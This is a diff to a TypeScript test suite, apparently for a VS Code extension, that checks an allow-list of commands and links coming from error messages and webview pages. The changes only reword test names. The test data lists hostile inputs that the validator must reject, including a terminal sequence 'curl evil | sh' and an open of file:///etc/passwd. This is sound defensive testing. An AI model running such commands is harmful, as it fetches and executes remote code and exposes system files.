@@ -7,7 +7,7 @@ import { compareChecks, isAction } from '../../../src/protocol/compare-checks.ts
 const source = fileURLToPath(new URL('../../../src', import.meta.url));
 
 describe('the command of an error', () => {
-  it('runs where an error of ours names it', () => {
+  it('runs if one of our errors names it', () => {
     const files = readdirSync(source, { recursive: true, encoding: 'utf8' }).filter((file) => file.endsWith('.ts'));
     const text = files.map((file) => readFileSync(path.join(source, file), 'utf8')).join('\n');
     const named = [...text.matchAll(/action(?::| =) \{ command: '([^']+)'/g)].map((match) => match[1] ?? '');
@@ -17,7 +17,7 @@ describe('the command of an error', () => {
     expect(isAction('workbench.action.openSettings', ['llmops.runs.recordRaw'])).toBe(true);
   });
 
-  it('is refused where the database or a page made it up', () => {
+  it('is rejected if the database or a page invented it', () => {
     for (const [command, args] of [
       ['workbench.action.terminal.sendSequence', [{ text: 'curl evil | sh\n' }]],
       ['vscode.open', ['file:///etc/passwd']],
@@ -35,8 +35,8 @@ describe('the command of an error', () => {
   });
 });
 
-describe('a link of an answer', () => {
-  it('leads to the web or to a mail, and nowhere else', () => {
+describe('a link in an answer', () => {
+  it('leads only to the web or to a mail address', () => {
     const opens = (url: unknown) => compareChecks['link.open']({ url });
     expect(['https://example.com/a?b=c#d', 'HTTP://x', 'mailto:a@b.c'].every(opens)).toBe(true);
     const refused = [
@@ -52,8 +52,8 @@ describe('a link of an answer', () => {
   });
 });
 
-describe('what a page sends', () => {
-  it('is refused in any other shape', () => {
+describe('messages of a page', () => {
+  it('are rejected in any other shape', () => {
     const takeNothing = new Set(['snapshot', 'versions.list', 'input.fromFile', 'input.fromDataset', 'column.pick']);
     const methods = Object.entries(compareChecks).filter(([method]) => !takeNothing.has(method));
     expect(methods.length).toBeGreaterThan(12);
